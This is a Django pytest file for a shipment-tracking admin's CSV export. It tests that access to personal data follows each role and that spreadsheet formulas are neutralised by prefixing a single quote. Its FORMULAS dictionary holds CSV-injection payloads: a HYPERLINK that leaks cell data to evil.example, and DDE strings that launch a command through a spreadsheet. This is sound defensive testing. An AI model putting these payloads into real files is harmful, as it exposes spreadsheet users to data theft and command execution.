"""CSV export of the filtered change list; recipients' personal data only for roles that see it."""

import csv
import io

import pytest
from django.utils import timezone

from tests import factories
from tests.tracking.admin.conftest import shipment_made_yesterday
from tests.tracking.api.support import ApiClient
from tracking.services import event_record

pytestmark = pytest.mark.django_db

EXPORT = "/admin/tracking/shipment/export/"


def _export(client, query: str) -> list[dict]:
    page = client.get(f"{EXPORT}?{query}")
    assert page.status_code == 200
    response = client.post(f"{EXPORT}?{query}", {"format": "0", "resource": "0", **_all_fields(page)})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _all_fields(page) -> dict:
    form = page.context["form"]
    return {name: "on" for name in form.fields if name not in ("format", "resource", "export_items")}


def test_it_exports_the_filtered_list_with_personal_data_for_customer_service(customer_service, shipment):
    other = shipment_made_yesterday()
    event_record(shipment=other, code="picked_up", occurred_at=timezone.now())
    rows = _export(customer_service, "milestone__exact=picked_up")
    assert [r["tracking_number"] for r in rows] == [other.tracking_number]
    assert rows[0]["recipient_name"] == "Fernanda Ruiz Ortega"
    assert rows[0]["milestone"] == "picked_up"


def test_a_dispatcher_exports_without_personal_data(dispatcher, shipment):
    rows = _export(dispatcher, f"q={shipment.tracking_number}")
    assert [r["tracking_number"] for r in rows] == [shipment.tracking_number]
    assert "recipient_name" not in rows[0] and "recipient_phone" not in rows[0]
    assert "Fernanda" not in str(rows)


FORMULAS = {
    "reference": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "recipient_name": "=cmd|' /C calc'!A0",
    "recipient_address": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def test_it_neutralises_formulas_sent_through_the_api_in_the_staff_export(customer_service):
    factories.facility("MEX01", city="Ciudad de México", state="CDMX")
    factories.facility("GDL01", city="Guadalajara", state="Jalisco")
    _, key = factories.partner_token()
    created = ApiClient(key).post(
        "/api/v1/shipments",
        {
            "reference": FORMULAS["reference"],
            "weight_grams": 1200,
            "origin_facility": "MEX01",
            "destination_facility": "GDL01",
            "recipient": {
                "name": FORMULAS["recipient_name"],
                "phone": "+52 33 1234 5678",
                "email": "fernanda@example.com",
                "address": FORMULAS["recipient_address"],
                "city": "Guadalajara",
                "postal_code": "44100",
            },
        },
    )
    assert created.status_code == 201, created.content
    number = created.json()["tracking_number"]

    (row,) = _export(customer_service, f"q={number}")

    # A single quote first (the OWASP advice): a spreadsheet shows the text and runs nothing.
    for column, payload in FORMULAS.items():
        assert row[column] == "'" + payload, column
    # A phone number keeps its digits and is not taken for a formula either.
    assert row["recipient_phone"] == "'+52 33 1234 5678"
    assert row["tracking_number"] == number
    assert row["weight_grams"] == "1200"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_cell_that_a_spreadsheet_would_read_as_a_formula(customer_service, first):
    shipment = shipment_made_yesterday(reference=f"{first}1+1")

    (row,) = _export(customer_service, f"q={shipment.tracking_number}")

    assert row["reference"] == f"'{first}1+1"
    assert row["recipient_name"] == "Fernanda Ruiz Ortega"
